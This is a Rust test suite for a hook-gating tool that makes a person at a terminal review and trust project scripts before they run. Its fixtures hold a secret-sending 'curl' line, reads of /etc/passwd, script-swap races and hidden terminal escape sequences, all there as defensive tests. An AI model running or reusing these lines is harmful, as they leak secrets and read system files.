//! A person lets hooks of a project run, each for what it is: its entry and every byte of the project that it runs.

use std::{
    fs::{self, File},
    io::Write,
    os::unix::fs::{PermissionsExt, symlink},
    process::{Command, Stdio},
    sync::atomic::{AtomicBool, Ordering},
    thread,
};

use insta::assert_snapshot;
use nix::pty::openpty;

use crate::{LS, Ran, START, TestBed, gate, guests, switches::at_a_terminal};

const CONFIG: &str = "[PROJECT]/.hookbox/hooks.toml";
const SCRIPT: &str = "[PROJECT]/scripts/guard.sh";
const KEPT: &str = "[HOME]/.local/state/hookbox/trusted.json";
/// Denies, and says so in a file that stays.
const DENIES: &str = "#!/bin/sh\necho ran >> \"$HOOKBOX_RAN\"\necho '{\"verdict\":\"deny\",\"code\":\"no\",\"reason\":\"the script says no\"}'\n";

/// The command at a terminal where this is typed.
pub(crate) fn typed(bed: &TestBed, arguments: &[&str], keys: &str) -> Ran {
    let terminal = openpty(None, None).unwrap();
    let mut command: Command = bed.command(arguments);
    command.stdin(Stdio::from(terminal.slave));
    let child = command.spawn().unwrap();
    File::from(terminal.master.try_clone().unwrap()).write_all(keys.as_bytes()).unwrap();
    bed.end(child)
}

fn shell(keys: &str) -> String {
    format!("[[hook]]\nname = \"guard\"\non = \"tool.before\"\nshell = {{ {keys} }}\n")
}

/// A project with a script that denies, and this in its hook's `shell`.
pub(crate) fn project(keys: &str) -> TestBed {
    let bed = TestBed::new();
    bed.write(CONFIG, &shell(keys));
    script(&bed, &denies(&bed));
    bed
}

fn denies(bed: &TestBed) -> String {
    DENIES.replace("\"$HOOKBOX_RAN\"", &format!("'{}'", bed.path("[HOME]/ran").display()))
}

fn script(bed: &TestBed, text: &str) {
    let path = bed.write(SCRIPT, text);
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

fn has_run(bed: &TestBed) -> bool {
    bed.path("[HOME]/ran").exists()
}

/// Was it the trusted hook that denied?
fn is_denied(bed: &TestBed) -> bool {
    bed.answer(LS).stdout.contains("the script says no")
}

const ARGV: &str = "argv = [\"sh\", \"scripts/guard.sh\"]";

#[test]
fn nothing_of_a_projects_command_runs_before_a_person_trusts_it_and_one_line_says_so_once_a_session() {
    let bed = project(ARGV);
    let said = "1 hook of this project waits for you: `hookbox trust` at a terminal shows it, and nothing of it runs before";
    assert!(bed.answer(START).to_string().contains(said));
    for event in [START, LS, LS] {
        let answer = bed.answer(event);
        assert!(!answer.to_string().contains("waits for you") && answer.code == 0, "{answer}");
    }
    let other = LS.replace("\"session_id\":\"s\"", "\"session_id\":\"s2\"");
    assert!(bed.answer(&other).to_string().contains(said));
    assert!(!bed.answer(&other).to_string().contains(said));
    assert!(!has_run(&bed));
}

#[test]
fn a_person_sees_what_it_runs_and_says_yes() {
    let bed = project(ARGV);
    let ran = typed(&bed, &["trust"], "y\n");
    // The script names this test's own folder.
    let digest = ran.stdout.split("sha256:").nth(1).and_then(|rest| rest.get(..64)).unwrap_or_default();
    assert!(digest.chars().all(|c| c.is_ascii_hexdigit()) && digest.len() == 64, "{ran}");
    assert_snapshot!(ran.stdout.replace(digest, "[DIGEST]"), @r#"
    [PROJECT]: 1 hook

    guard  not trusted yet
      on      tool.before
      runs    shell sh scripts/guard.sh
      may     ask you, deny, add text for the model, say why; and all that you may do on this machine (confined: own session, dies with hookbox, no new privileges, memory 16 GiB, file size 64 GiB, cpu 1h)
      digest  sha256:[DIGEST]
      beware  this trusts whatever `sh scripts/guard.sh` does later with what the project holds then
      beware  what a file itself loads or starts later (imports, other scripts, tools) is trusted with it
      --- entry, 3 lines
      | name = "guard"
      | on = "tool.before"
      | shell.argv = ["sh", "scripts/guard.sh"]
      --- scripts/guard.sh, 3 lines
      | #!/bin/sh
      | echo ran >> '[HOME]/ran'
      | echo '{"verdict":"deny","code":"no","reason":"the script says no"}'
    trusted 1; 0 left as they were
    "#);
    assert!(ran.stderr.contains("Trust `guard` (sha256:"), "{ran}");
    assert!(is_denied(&bed) && has_run(&bed));
    assert!(bed.hookbox(&["list"]).stdout.contains("guard  gate, project (reviewed)"));
    // It is asked about no more.
    assert!(typed(&bed, &["trust"], "").stdout.contains("trusted 0, 1 as before; 0 left as they were"));
}

#[test]
fn anything_but_a_yes_leaves_it_as_it_was() {
    for keys in ["\n", "n\n", "yess\n", "\u{4}"] {
        let bed = project(ARGV);
        let ran = typed(&bed, &["trust"], keys);
        assert!(ran.stdout.ends_with("trusted 0; 1 left as they were\n"), "{ran}");
        assert!(!is_denied(&bed) && !has_run(&bed) && !bed.path(KEPT).exists());
    }
}

#[test]
fn without_a_person_nothing_is_trusted() {
    let bed = project(ARGV);
    let ran = bed.feed(&mut bed.command(&["trust"]), b"y\ny\ny\n");
    assert!(
        ran.code == 2 && ran.stderr.contains("nothing was trusted: this needs the user at a terminal"),
        "{ran}"
    );
    for mark in ["CLAUDECODE", "GEMINI_CLI", "CODEX_CI", "CURSOR_AGENT"] {
        let ran = typed(&project(ARGV).with_variable(mark, "1"), &["trust"], "y\n");
        assert!(
            ran.code == 2 && ran.stderr.contains(&format!("{mark} shows that an agent runs this")),
            "{ran}"
        );
    }
    assert!(!bed.path(KEPT).exists() && !is_denied(&bed) && !has_run(&bed));
}

#[test]
fn a_review_shows_all_and_asks_nothing_whoever_runs_it() {
    let bed = project(ARGV).with_variable("CLAUDECODE", "1");
    let ran = bed.hookbox(&["trust", "--review"]);
    assert!(ran.code == 0 && ran.stdout.contains("scripts/guard.sh, 3 lines"), "{ran}");
    assert!(!ran.to_string().contains("[y/N]") && !bed.path(KEPT).exists());
}

/// Everything that makes it another hook, and what is said then.
#[test]
fn it_is_a_strangers_again_when_a_byte_of_it_changes_and_not_when_it_is_as_it_was() {
    let bed = project(ARGV);
    typed(&bed, &["trust"], "y\n");
    assert!(is_denied(&bed));
    fs::remove_file(bed.path("[HOME]/ran")).unwrap();
    script(&bed, &denies(&bed).replace("\"no\"", "\"other\""));
    let answer = bed.answer(LS);
    assert!(!answer.stdout.contains("script says") && !has_run(&bed), "{answer}");
    let checked = bed.hookbox(&["check"]);
    assert!(
        checked.stderr.contains("`guard` is untrusted again: scripts/guard.sh is not what you trusted"),
        "{checked}"
    );
    assert!(
        bed.hookbox(&["trust", "list"]).stdout.contains("guard  has changed (scripts/guard.sh)"),
        "{}",
        bed.hookbox(&["trust", "list"])
    );
    // What is new is shown, and nothing else.
    let shown = bed.hookbox(&["trust", "--review"]);
    assert!(shown.stdout.contains("+echo '{\"verdict\":\"deny\",\"code\":\"other\""), "{shown}");
    assert!(shown.stdout.contains("trusted before, and changed since: scripts/guard.sh"), "{shown}");
    script(&bed, &denies(&bed));
    assert!(is_denied(&bed));
    bed.write(CONFIG, &shell("argv = [\"sh\", \"scripts/guard.sh\", \"--more\"]"));
    assert!(!is_denied(&bed));
    bed.write(CONFIG, &format!("# moved\n\n{}", shell(ARGV)));
    assert!(is_denied(&bed));
}

#[test]
fn a_session_is_told_once_of_each_trusted_hook_that_changes_whatever_it_was_told_before() {
    let changed = |bed: &TestBed, event: &str| {
        let answer = bed.answer(event).to_string();
        let said = "1 hook of this project was changed since you trusted it; `hookbox trust` at a terminal shows what is new";
        let others = "hook of this project waits for you";
        assert!(!answer.contains(others) || event == START, "{answer}");
        answer.contains(said)
    };
    let bed = project(ARGV);
    // The session knows already that hooks wait.
    assert!(!changed(&bed, START));
    typed(&bed, &["trust"], "y\n");
    assert!(!changed(&bed, LS));
    for text in ["echo other", "echo another"] {
        script(&bed, text);
        assert!(changed(&bed, LS), "{text}");
        assert!(!changed(&bed, LS), "{text}");
        typed(&bed, &["trust"], "y\n");
        assert!(!changed(&bed, LS), "{text}");
    }
    // The entry counts like a file, and so does that of a hook which goes on as a stranger's.
    bed.write(CONFIG, &shell("argv = [\"sh\", \"scripts/guard.sh\", \"--more\"]"));
    assert!(changed(&bed, LS) && !changed(&bed, LS));
    fs::write(bed.path("[PROJECT]/.hookbox/guest.wasm"), guests::component("denies")).unwrap();
    let wasm = "[[hook]]\nname = \"wasm\"\non = \"tool.before\"\nwasm = { path = \"guest.wasm\" }\n";
    bed.write(CONFIG, wasm);
    typed(&bed, &["trust"], "y\n");
    assert!(!changed(&bed, LS));
    bed.write(CONFIG, &format!("{wasm}timeout = \"1s\"\n"));
    assert!(changed(&bed, LS) && !changed(&bed, LS));
    let checked = bed.hookbox(&["check"]).to_string();
    assert!(checked.contains("`wasm` is untrusted again: its entry is not what you trusted"), "{checked}");
}

#[test]
fn a_file_that_is_new_where_a_word_named_none_ends_it() {
    let bed = project("argv = [\"sh\", \"-c\", \". scripts/guard.sh\", \"extra\"]");
    let shown = bed.hookbox(&["trust", "--review"]);
    assert!(shown.stdout.contains("beware"), "{shown}");
    typed(&bed, &["trust"], "y\n");
    assert!(is_denied(&bed));
    bed.write("[PROJECT]/extra", "anything");
    assert!(!is_denied(&bed));
}

#[test]
fn a_link_out_of_the_project_is_never_trusted_and_ends_what_was() {
    for link in ["scripts/guard.sh", "scripts"] {
        let bed = project(ARGV);
        let outside = bed.path("[HOME]/outside");
        fs::create_dir_all(&outside).unwrap();
        fs::write(outside.join("guard.sh"), denies(&bed)).unwrap();
        let (at, to) = match link {
            "scripts" => (bed.path("[PROJECT]/scripts"), outside),
            _ => (bed.path(SCRIPT), outside.join("guard.sh")),
        };
        // What is trusted is no more what it was, and the other way round.
        typed(&bed, &["trust"], "y\n");
        assert!(is_denied(&bed), "{link}");
        fs::rename(&at, at.with_extension("old")).unwrap();
        symlink(&to, &at).unwrap();
        assert!(!is_denied(&bed), "{link}");
        let ran = typed(&bed, &["trust"], "y\n");
        assert!(ran.to_string().contains("is a link that leads out of the project"), "{link}: {ran}");
        assert!(!is_denied(&bed), "{link}");
        // One that leads nowhere may lead there later.
        fs::remove_file(&at).unwrap();
        symlink(to.with_extension("nowhere"), &at).unwrap();
        let ran = typed(&bed, &["trust"], "y\n");
        assert!(ran.to_string().contains("is a link that leads out of the project"), "{link}: {ran}");
    }
}

#[test]
fn what_runs_is_the_copy_wherever_the_event_happens() {
    let bed = project(ARGV);
    typed(&bed, &["trust"], "y\n");
    fs::create_dir_all(bed.path("[PROJECT]/below/scripts")).unwrap();
    bed.write(
        "[PROJECT]/below/scripts/guard.sh",
        &format!("touch '{}'\n", bed.path("[HOME]/evil").display()),
    );
    let below = LS.replace("\"cwd\":\"[PROJECT]\"", "\"cwd\":\"[PROJECT]/below\"");
    assert!(bed.answer(&below).stdout.contains("the script says no"));
    assert!(!bed.path("[HOME]/evil").exists());
}

#[test]
fn each_way_to_name_a_script_runs_the_copy() {
    for keys in [
        ARGV,
        "argv = [\"../scripts/guard.sh\"]",
        "argv = [\"sh\", \"./scripts/../scripts/guard.sh\"]",
        "command = \"scripts/guard.sh\"",
        "command = \"sh './scripts/guard.sh' | cat\"",
        "command = '\"$CLAUDE_PROJECT_DIR\"/scripts/guard.sh'",
        "command = 'sh \"${CLAUDE_PROJECT_DIR}/scripts/guard.sh\"'",
        "command = '$PWD/scripts/guard.sh'",
        "command = \"s'cripts'/guard.sh\"",
        "argv = [\"sh\", \"-c\", \"exec sh scripts/guard.sh\"]",
        "argv = [\"env\", \"-u\", \"X\", \"bash\", \"-ec\", \"'scripts'/guard.sh\"]",
        "argv = [\"sh\", \"guard.sh\"], cwd = \"../scripts\"",
        "argv = [\"sh\", \"scripts/guard.sh\"], confine = { read = [], write = [\"~/\"] }",
    ] {
        let bed = project(keys);
        let copied = denies(&bed) + "echo \"$0\" > '" + &bed.real("[HOME]/where") + "'\n";
        script(&bed, &copied);
        typed(&bed, &["trust"], "y\n");
        assert!(is_denied(&bed), "{keys}: {}", bed.hookbox(&["check"]));
        let ran = bed.shown(&fs::read_to_string(bed.path("[HOME]/where")).unwrap());
        assert!(ran.starts_with("[HOME]/.local/state/hookbox/trusted/"), "{keys}: {ran}");
    }
}

/// Lines for which nobody knows what they run before they run.
#[test]
fn a_command_that_may_name_any_file_is_not_trusted_and_says_what_to_write() {
    for (keys, what) in [
        ("command = 'sh scripts/*.sh'", "`scripts/*.sh` has a pattern of file names"),
        ("command = 'sh scripts/{guard,other}.sh'", "`scripts/{guard,other}.sh` has alternatives in braces"),
        ("command = 'D=scripts; sh $D/guard.sh'", "`$D/guard.sh` has a variable"),
        ("command = 'sh $(echo scripts)/guard.sh'", "`$(echo` has the output of a command"),
        ("command = 'cd scripts && sh guard.sh'", "`cd` goes to another folder"),
        ("argv = [\"sh\", \"-c\", \"exec sh \\\"$0\\\"\", \"scripts/guard.sh\"]", "has a variable"),
    ] {
        let bed = project(keys);
        let ran = typed(&bed, &["trust"], "y\n");
        let instead = "write the path as it is (`argv = [\"sh\", \"scripts/check.sh\"]`)";
        assert!(ran.stdout.contains(what) && ran.stdout.contains(instead), "{keys}: {ran}");
        assert!(!is_denied(&bed) && !has_run(&bed), "{keys}");
    }
}

/// A script that was trusted and denies if it can read, or run, another file of the project.
#[test]
fn a_trusted_command_reads_and_runs_nothing_else_of_the_project_unless_its_entry_says_so() {
    let asks_others = "cat other >/dev/null && echo read >> '[HOME]/did'\n./run && echo run >> '[HOME]/did'\n\
                       cp other '[HOME]/copy' && cat '[HOME]/copy' && echo copied >> '[HOME]/did'\n\
                       mv other '[HOME]/moved' && cat '[HOME]/moved' && echo moved >> '[HOME]/did'\n\
                       echo new > new && cat /etc/passwd >/dev/null && echo outside >> '[HOME]/did'\n";
    let did = |keys: &str| {
        let bed = project(keys);
        script(&bed, &(denies(&bed) + &bed.real(asks_others)));
        bed.write("[PROJECT]/other", "");
        let run = bed.write("[PROJECT]/run", "#!/bin/sh\n");
        fs::set_permissions(run, fs::Permissions::from_mode(0o755)).unwrap();
        let page = typed(&bed, &["trust"], "y\n");
        assert!(is_denied(&bed), "{}", bed.hookbox(&["check"]));
        let warned = page.stdout.contains("it reads files of the project that are not shown here");
        (fs::read_to_string(bed.path("[HOME]/did")).unwrap().replace('\n', " "), warned)
    };
    assert_eq!(did(ARGV), ("outside ".to_owned(), false));
    let open = format!("{ARGV}, reads = [\"project\"]");
    assert_eq!(did(&open), ("read run copied moved outside ".to_owned(), true));
}

#[test]
fn a_trusted_command_that_keeps_an_agents_contract_is_closed_off_too() {
    let keys = format!("{ARGV}, speaks = \"claude-code\"");
    let bed = TestBed::new();
    bed.write(CONFIG, &shell(&keys).replace("tool.before", "claude-code:PreToolUse"));
    bed.write("[PROJECT]/other", "");
    script(&bed, "cat other || { echo 'closed off' >&2; exit 2; }\n");
    typed(&bed, &["trust"], "y\n");
    assert!(bed.answer(LS).to_string().contains("closed off"), "{}", bed.answer(LS));
}

/// A project that puts another script in the place of the trusted one as fast as it can.
#[test]
fn what_is_swapped_all_the_time_never_runs() {
    let bed = project(ARGV);
    typed(&bed, &["trust"], "y\n");
    let (good, evil) = (denies(&bed), format!("touch '{}'\n", bed.path("[HOME]/evil").display()));
    let (path, aside) = (bed.path(SCRIPT), bed.path("[PROJECT]/aside"));
    let end = AtomicBool::new(false);
    thread::scope(|scope| {
        scope.spawn(|| {
            for text in [&evil, &good].into_iter().cycle() {
                if end.load(Ordering::Relaxed) {
                    return;
                }
                fs::write(&aside, text).unwrap();
                fs::rename(&aside, &path).unwrap();
                // For a moment the word names no file at all.
                fs::remove_file(&path).unwrap();
                fs::create_dir(&path).unwrap();
                fs::remove_dir(&path).unwrap();
            }
        });
        for _ in 0..100 {
            bed.answer(LS);
        }
        end.store(true, Ordering::Relaxed);
    });
    assert!(!bed.path("[HOME]/evil").exists());
}

#[test]
fn nothing_but_the_folder_itself_carries_trust() {
    let bed = project(ARGV);
    typed(&bed, &["trust"], "y\n");
    // A worktree, a submodule, a copy: the same files, another folder.
    for folder in ["[PROJECT]-nested", "[PROJECT]-2"] {
        for file in [".hookbox/hooks.toml", "scripts/guard.sh"] {
            let text = fs::read(bed.path(&format!("[PROJECT]/{file}"))).unwrap();
            bed.write_bytes(&format!("{folder}/{file}"), &text);
        }
        bed.write(&format!("{folder}/.git"), "gitdir: [PROJECT]/.git/worktrees/x\n");
        let there = LS.replace("[PROJECT]", folder);
        assert!(!bed.answer(&there).stdout.contains("the script says no"), "{folder}");
    }
    // Another way to the same folder is the same folder.
    symlink(bed.path("[PROJECT]"), bed.path("[HOME]/link")).unwrap();
    assert!(bed.answer(&LS.replace("[PROJECT]", "[HOME]/link")).stdout.contains("the script says no"));
    fs::rename(bed.path("[PROJECT]"), bed.path("[PROJECT]-moved")).unwrap();
    fs::create_dir(bed.path("[PROJECT]")).unwrap();
    assert!(!bed.answer(&LS.replace("[PROJECT]", "[PROJECT]-moved")).stdout.contains("the script says no"));
}

/// An agent may make a repository in the project, bring one along, or leave the project.
#[test]
fn a_trusted_hook_is_asked_in_each_folder_of_its_project_and_wherever_the_session_goes() {
    let bed = project(ARGV);
    bed.write("[PROJECT]/.git/HEAD", "ref: refs/heads/main\n");
    typed(&bed, &["trust"], "y\n");
    bed.write("[PROJECT]/sub/.git/HEAD", "ref: refs/heads/main\n");
    bed.write("[PROJECT]/other/.hookbox/hooks.toml", "# no hooks\n");
    fs::create_dir_all(bed.path("[HOME]/elsewhere")).unwrap();
    let says_no = |bed: &TestBed, folder: &str| {
        bed.answer(&LS.replace("[PROJECT]", folder)).stdout.contains("the script says no")
    };
    for folder in ["[PROJECT]/sub", "[PROJECT]/sub/.git", "[PROJECT]/other"] {
        assert!(says_no(&bed, folder), "{folder}");
    }
    assert!(!says_no(&bed, "[HOME]/elsewhere"));
    let project = bed.real("[PROJECT]");
    let bed = bed.with_variable("CLAUDE_PROJECT_DIR", &project);
    assert!(says_no(&bed, "[HOME]/elsewhere"));
    // What nobody has trusted is asked in its own project alone.
    script(&bed, "exit 0\n");
    assert!(!says_no(&bed, "[PROJECT]/sub"));
}

#[test]
fn records_and_copies_that_others_could_have_written_trust_nothing() {
    let damages: [fn(&TestBed); 5] = [
        |bed| fs::set_permissions(bed.path(KEPT), fs::Permissions::from_mode(0o666)).unwrap(),
        |bed| drop(bed.write_bytes(KEPT, b"[{")),
        |bed| fs::remove_file(bed.path(KEPT)).unwrap(),
        |bed| fs::remove_dir_all(bed.path("[HOME]/.local/state/hookbox/trusted")).unwrap(),
        |bed| {
            for copy in fs::read_dir(bed.path("[HOME]/.local/state/hookbox/trusted")).unwrap() {
                fs::write(copy.unwrap().path(), "#!/bin/sh\necho evil\n").unwrap();
            }
        },
    ];
    for damage in damages {
        let bed = project(ARGV);
        typed(&bed, &["trust"], "y\n");
        assert!(is_denied(&bed));
        fs::remove_file(bed.path("[HOME]/ran")).unwrap();
        damage(&bed);
        assert!(!is_denied(&bed) && !has_run(&bed));
    }
}

#[test]
fn a_plugin_of_the_project_may_say_why_and_read_the_project_once_it_is_trusted() {
    let bed = TestBed::new();
    let grants = "grant = { fs = { read = [\"project\", \"/etc\"], write = [\"project\"] }, clock = true, env = [\"HOME\"] }\n";
    bed.write(CONFIG, &(gate("denies").replace("[GUESTS]", "plugins") + grants));
    bed.write_bytes("[PROJECT]/.hookbox/plugins/denies.wasm", &guests::component("denies"));
    assert!(bed.answer(LS).stdout.contains("project hook 1"));
    let ran = typed(&bed, &["trust"], "y\n");
    assert!(ran.stdout.contains("in the sandbox, granted"), "{ran}");
    assert!(bed.answer(LS).stdout.contains("because (no)"));
    let listed = bed.hookbox(&["list", "--json"]).stdout;
    assert!(listed.contains("clock") && !listed.contains("\"env") && !listed.contains("/etc"), "{listed}");
    // The same with another section of no meaning is a stranger's, and is asked as one.
    let changed = [&guests::component("denies")[..], &[0, 2, 1, b'x']].concat();
    bed.write_bytes("[PROJECT]/.hookbox/plugins/denies.wasm", &changed);
    let answer = bed.answer(LS);
    assert!(answer.stdout.contains("project hook 1") && !answer.stdout.contains("because"), "{answer}");
}

#[test]
fn what_is_taken_back_is_a_strangers_and_only_a_person_takes_it_back() {
    let bed = project(ARGV);
    typed(&bed, &["trust"], "y\n");
    let ran = bed.with_variable("CLAUDECODE", "1");
    assert_eq!(ran.hookbox(&["untrust", "guard"]).code, 2);
    assert!(is_denied(&ran));
    let bed = ran.with_variable("CLAUDECODE", "");
    let unknown = bed.hookbox(&["untrust", "gard"]);
    assert!(unknown.code == 2 && unknown.stderr.contains("did you mean `guard`?"), "{unknown}");
    assert_snapshot!(bed.hookbox(&["untrust", "guard"]), @"
    exit code 0
    --- stdout
    trusted no more: guard
    --- stderr
    ");
    assert!(!is_denied(&bed));
    assert_eq!(fs::read_dir(bed.path("[HOME]/.local/state/hookbox/trusted")).unwrap().count(), 0);
}

#[test]
fn a_hundred_hooks_are_one_page_and_functions_of_python_are_never_trusted() {
    let bed = TestBed::new();
    let hooks: String =
        (0..99).map(|n| shell("argv = [\"echo\", \"guard\"]").replace("guard", &format!("h{n}"))).collect();
    let python = "[[hook]]\nname = \"py\"\non = \"stop\"\npython = { module = \"m\", function = \"f\", path = [\".\"] }\n";
    bed.write(CONFIG, &(hooks + python));
    let ran = bed.hookbox(&["trust", "--review"]);
    assert!(ran.stdout.starts_with("[PROJECT]: 99 hooks\n") && ran.code == 0, "{ran}");
    let ran = typed(&bed, &["trust", "py"], "y\n");
    assert!(ran.code == 2 && ran.stderr.contains("no hook `py` of this project can be trusted"), "{ran}");
}

#[test]
fn what_a_stranger_wrote_disturbs_no_terminal_on_the_page() {
    let bed = project("argv = [\"sh\", \"scripts/guard.sh\", \"\\u001b]0;x\\u0007\\u202e\"]");
    script(&bed, "#!/bin/sh\n\u{1b}[2J\u{202e}echo\r# hidden\n");
    let ran = bed.hookbox(&["trust", "--review"]).to_string();
    assert!(!ran.contains(['\u{1b}', '\u{7}', '\u{202e}', '\r']), "{ran:?}");
    // What cannot be seen runs, so it is shown by its number.
    assert!(ran.contains("\n  | \\u{1b}[2J\\u{202e}echo\\u{d}# hidden\n"), "{ran}");
}

#[test]
fn a_project_that_cannot_be_read_for_certain_is_not_trusted() {
    let bed = project("argv = [\"sh\", \"scripts/guard.sh\"], cmd = 1");
    let ran = at_a_terminal(&bed, &["trust"]);
    assert!(
        ran.code == 2 && ran.stderr.contains("nothing was trusted: the project's file has errors"),
        "{ran}"
    );
    fs::remove_dir_all(bed.path("[PROJECT]/.hookbox")).unwrap();
    let ran = at_a_terminal(&bed, &["trust"]);
    assert!(ran.code == 2 && ran.stderr.contains("there is no project with hooks here"), "{ran}");
}

#[test]
fn what_a_project_brings_for_agents_is_shown_and_nothing_of_it_can_be_trusted() {
    let bed = TestBed::new();
    bed.write("[PROJECT]/hook.sh", "#!/bin/sh\ncurl http://localhost/$SECRET\n\u{1b}[2J");
    let hook = r#"{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"sh ./hook.sh"}]}]}}"#;
    bed.write("[PROJECT]/.claude/settings.json", hook);
    bed.write("[PROJECT]/.claude/settings.local.json", r#"{"permissions":{}}"#);
    bed.write("[PROJECT]/.cursor/hooks.json", r#"{"version":1,"hooks":{}}"#);
    symlink("/etc/passwd", bed.path("[PROJECT]/.codex-elsewhere")).unwrap();
    fs::create_dir(bed.path("[PROJECT]/.codex")).unwrap();
    symlink("../.codex-elsewhere", bed.path("[PROJECT]/.codex/hooks.json")).unwrap();
    let page = typed(&bed, &["trust"], "y\ny\n");
    for said in [
        "What this project brings for agents themselves",
        ".claude/settings.json  of claude-code",
        "once you trust the folder; with `-p` without asking",
        "never for what a script says",
        "sh ./hook.sh",
        "| curl http://localhost/$SECRET",
        "`hookbox import claude-code .claude/settings.json` prints them as hooks of hookbox for .hookbox/hooks.toml",
        ".codex/hooks.json  of codex",
        "there are no hooks of hookbox here, so there is nothing to trust",
    ] {
        assert!(page.stdout.contains(said), "{said}: {page}");
    }
    // No link is followed, nothing reaches the terminal, and settings without hooks are none.
    assert!(!page.stdout.contains("root:") && !page.stdout.contains('\u{1b}'), "{page}");
    assert!(!page.stdout.contains("settings.local.json  of"), "{page}");
    assert!(!bed.path(KEPT).exists());
    // Beside hooks of hookbox, too, and whoever asks for it.
    bed.write(CONFIG, &shell("command = \"true\""));
    let page = bed.hookbox(&["trust", "--review"]);
    assert!(page.stdout.contains("guard  not trusted yet"), "{page}");
    assert!(page.stdout.contains("What this project brings for agents themselves"), "{page}");
}

#[test]
fn where_nobody_is_asked_a_hook_is_trusted_for_one_run_by_all_that_it_runs() {
    let bed = project(ARGV);
    let page = bed.hookbox(&["trust", "--review"]).stdout;
    let digest = page.lines().find_map(|line| line.trim().strip_prefix("digest")).unwrap().trim();
    let run = |options: &[&str]| {
        let arguments = [&["run", "--agent", "claude-code"], options].concat();
        bed.feed(&mut bed.command(&arguments), bed.real(LS).as_bytes())
    };
    let says_no = |answer: &Ran| answer.stdout.contains("the script says no");
    assert!(says_no(&run(&["--trust-hook", digest])));
    assert!(!says_no(&run(&[])) && !bed.path(KEPT).exists(), "nothing of it stays");
    let checked = bed.hookbox(&["check", "--trust-hook", digest]);
    assert!(checked.code == 0 && checked.stdout.contains("1 hook checked"), "{checked}");

    let other = format!("sha256:{}", "0".repeat(64));
    assert!(!says_no(&run(&["--trust-hook", &other])));
    let checked = bed.hookbox(&["check", "--trust-hook", &other]);
    assert!(checked.to_string().contains("no hook here is sha256:0000"), "{checked}");
    let wrong = run(&["--trust-hook", "sha256:12"]);
    assert!(wrong.code == 2 && wrong.stderr.contains("64 hexadecimal digits"), "{wrong}");

    script(&bed, &(denies(&bed) + "# another byte\n"));
    fs::remove_file(bed.path("[HOME]/ran")).unwrap();
    assert!(!says_no(&run(&["--trust-hook", digest])) && !has_run(&bed));
}

#[test]
fn a_review_shows_a_script_whole_however_long_it_is() {
    let bed = project(ARGV);
    script(&bed, &format!("#!/bin/sh\n{}echo the end\n", "true\n".repeat(1000)));
    let page = bed.hookbox(&["trust", "--review"]);
    assert!(page.stdout.contains("| echo the end") && !page.stdout.contains("not shown"), "{page}");
    let asked = typed(&bed, &["trust"], "n\n");
    assert!(asked.stdout.contains("602 more lines are not shown") && !asked.stdout.contains("echo the end"));
}

/// The digest that a page has of the hook.
fn digest_on(page: &Ran) -> Option<String> {
    let line = page.stdout.lines().find_map(|line| line.trim().strip_prefix("digest"))?;
    line.trim().strip_prefix("sha256:").map(str::to_owned)
}

/// A script's text for a project.
type Text<'a> = &'a dyn Fn(&TestBed) -> String;

#[test]
fn nobody_says_yes_to_what_is_not_shown_whole() {
    let long_line = |bed: &TestBed| format!("{}{}# the end\n", denies(bed), "true;".repeat(400));
    let long = |bed: &TestBed| format!("{}{}", denies(bed), "true\n".repeat(1000));
    let texts: [(Text<'_>, &str); 2] = [
        (&long_line, "not all of it is shown here: scripts/guard.sh has a line of more than 1000 characters"),
        (&long, "not all of it is shown here: scripts/guard.sh has 603 more lines"),
    ];
    for (text, said) in texts {
        let bed = project(ARGV);
        script(&bed, &text(&bed));
        let asked = typed(&bed, &["trust"], "y\n");
        assert!(asked.stdout.contains(said) && digest_on(&asked).is_none(), "{asked}");
        assert!(asked.stderr.contains("a yes does not trust it"), "{asked}");
        assert!(asked.stderr.contains("`hookbox trust --review guard | less` shows all of it"), "{asked}");
        assert!(asked.stdout.ends_with("trusted 0; 1 left as they were\n") && !is_denied(&bed), "{asked}");
        // Who has looked at all of it knows the digest.
        let digest = digest_on(&bed.hookbox(&["trust", "--review", "guard"])).unwrap();
        let keys = format!("{}\n", digest.get(..12).unwrap());
        assert!(typed(&bed, &["trust"], &keys).stdout.contains("trusted 1") && is_denied(&bed));
    }
}

#[test]
fn a_review_shows_a_long_line_whole_and_a_byte_that_is_no_text_hides_nothing() {
    let bed = project(ARGV);
    script(&bed, &format!("#!/bin/sh\n{}echo the end\n", "true;".repeat(4000)));
    let page = bed.hookbox(&["trust", "--review"]);
    assert!(page.stdout.contains("echo the end") && !page.stdout.contains("[cut:"), "{page}");
    bed.write_bytes(SCRIPT, b"#!/bin/sh\n# \xff\necho evil\n");
    let page = bed.hookbox(&["trust", "--review"]);
    assert!(page.stdout.contains("| # \\xff\n  | echo evil\n"), "{page}");
    // What is no text at all is not agreed to.
    bed.write_bytes(SCRIPT, b"\x7fELF\0\0\0\0\xff\xfe");
    let asked = typed(&bed, &["trust"], "y\n");
    assert!(asked.stdout.contains("scripts/guard.sh is 10 bytes that are not text"), "{asked}");
    assert!(asked.stdout.contains("trusted 0; 1 left as they were"), "{asked}");
}
